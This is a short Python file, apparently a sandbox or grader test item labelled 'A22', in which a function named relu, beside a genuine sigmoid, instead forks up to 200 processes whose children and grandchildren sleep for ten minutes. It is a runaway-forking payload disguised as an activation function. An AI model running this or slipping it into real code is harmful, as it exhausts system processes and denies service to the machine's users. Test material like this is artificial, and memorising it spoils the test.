"""A22: runaway forking; the children sleep so they pile up."""
import os
import time

import numpy as np


def relu(z):
    made = 0
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.fork()  # grandchildren too
            except OSError:
                pass
            time.sleep(600)
            os._exit(0)
        made += 1
    return made


def sigmoid(z):
    return 1 / (1 + np.exp(-z))
